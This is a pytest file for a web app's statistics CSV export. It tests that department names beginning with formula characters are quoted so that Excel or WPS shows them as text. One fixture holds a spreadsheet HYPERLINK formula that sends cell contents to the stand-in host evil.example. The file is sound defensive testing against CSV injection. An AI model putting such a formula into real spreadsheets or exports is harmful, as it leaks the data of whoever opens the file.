"""The statistics export (Art. 6) is opened in Excel/WPS: names typed by people never run as formulas."""

from datetime import datetime

import pytest
from sqlalchemy import update

from app.core.cells import safe_cell, unquote_cell
from app.core.clock import SHANGHAI, clock
from app.org.models import Department
from tests.api.helpers import submit

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def test_a_department_name_that_looks_like_a_formula_is_quoted_in_stats_csv(client, as_user, rt) -> None:
    with rt.db.session() as session:
        session.execute(update(Department).where(Department.code == "410000-gat").values(name=FORMULA))
        session.commit()
    clock.freeze(datetime(2026, 9, 30, 15, 0, tzinfo=SHANGHAI))
    submit(as_user("rst_clerk"))  # the provider (公安厅) has 5 working days to answer
    clock.freeze(datetime(2026, 10, 15, 9, 0, tzinfo=SHANGHAI))
    assert as_user("demo_admin").post("/api/admin/jobs/escalate-overdue/run").json()["result"] == 1
    csv = as_user("gov_supervisor").get("/api/supervision/stats.csv")
    assert csv.status_code == 200
    [row] = csv.text.splitlines()[1:]
    assert row.startswith('410000-gat,"\'=HYPERLINK(')  # quoted: shown as text, never evaluated
    assert ",=" not in row and ',"=' not in row


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_start_is_quoted_and_reads_back(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert unquote_cell(safe_cell(text)) == text


@pytest.mark.parametrize("value", ["河南省公安厅", "'引号开头", "a=1", 3, -2.5, None])
def test_ordinary_values_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value
    if isinstance(value, str):
        assert unquote_cell(value) == value
